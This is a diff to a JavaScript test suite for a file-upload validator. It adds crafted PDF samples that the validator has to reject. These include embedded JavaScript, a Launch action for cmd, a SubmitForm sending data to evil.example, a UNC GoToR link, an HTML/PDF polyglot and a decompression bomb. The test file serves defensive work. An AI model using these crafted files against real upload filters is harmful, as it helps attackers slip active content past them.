@@ -79,7 +79,17 @@ describe('upload', () => {
     ['that hides the script in packed objects', 'file.suspicious', 400, 'high', 'active', pdfWith(packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')), {}],
     ['that starts a program', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /Type /Action /S/Launch /F (cmd) >>'), {}],
     ['that carries other files', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /Names << /EmbeddedFiles 4 0 R >> >>'), {}],
-    ['that unpacks to far too much', 'file.suspicious', 400, 'critical', 'bomb', pdfWith(packed(' '.repeat(40 * 1024 * 1024))), {}],
+    ['that names its script in another object', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S 5 0 R /X 1 >>', '/JavaScript'), {}],
+    ['with many comments before its script', 'file.suspicious', 400, 'high', 'active', pdfWith(`<< /S ${'%\n'.repeat(40)} /JavaScript >>`), {}],
+    ['with a long comment before its script', 'file.suspicious', 400, 'high', 'active', pdfWith(`<< /S %${'x'.repeat(5000)}\n/JavaScript >>`), {}],
+    ['with a script behind a text that does not end', 'file.suspicious', 400, 'high', 'active', pdfWith('(open', '<< /S /JavaScript >>'), {}],
+    ['with a script behind a comment that looks like an object', 'file.suspicious', 400, 'high', 'active', pdfWith('<< % 9 0 obj (\n/S /JavaScript >>'), {}],
+    ['with a form that has a program', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /AcroForm << /XFA 5 0 R >> >>'), {}],
+    ['that sends what is filled in', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>'), {}],
+    ['that opens another file', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /GoToR /F (\\\\host\\x.pdf) >>'), {}],
+    ['that opens a file in itself', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /GoToE >>'), {}],
+    ['that is a page in its first kilobyte', 'file.suspicious', 400, 'critical', 'polyglot', Buffer.concat([Buffer.from('%PDF-1.7\n%<html><script>alert(1)</script>\n'), pdfWith().subarray(9)]), {}],
+    ['that unpacks to far too much', 'file.suspicious', 400, 'critical', 'bomb', pdfWith(packed(`5 0 (x)${' '.repeat(5 * 1024 * 1024)}`)), {}],
   ])('[FILE-01/ten-mb, FILE-01/other-types, FILE-01/exe, FILE-01/js, FILE-01/content, SHLD-01/file-upload-violation] refuses a file %s: nothing is kept, and it is noted', async (_, code, status, severity, reason, body, wishes) => {
     const { id, client } = await signedInMember(server)
     const before = storedKeys(server.config)
@@ -114,6 +124,7 @@ describe('upload', () => {
   it.each([
     ['lists what its writer knows', pdfWith('<< /Title (HTML/CSS/JavaScript, Node/JS, /Launch) >>')],
     ['goes to its first page', pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')],
+    ['writes of scripts in its texts', pdfWith('<< /Title (a \\) /JavaScript (nested /JS) and /Launch) /Author <2f4a53> % /JS\n >>', packed('5 0 (/JavaScript) (/JS)'))],
     ['has packed objects and old ends', pdfWith(packed('5 0 << /S /URI /URI (https://example.com) >>'), '(%%EOF)')],
   ])('[FILE-01/pdf] takes a PDF that %s', async (_, cv) => {
     const { client } = await signedInMember(server)
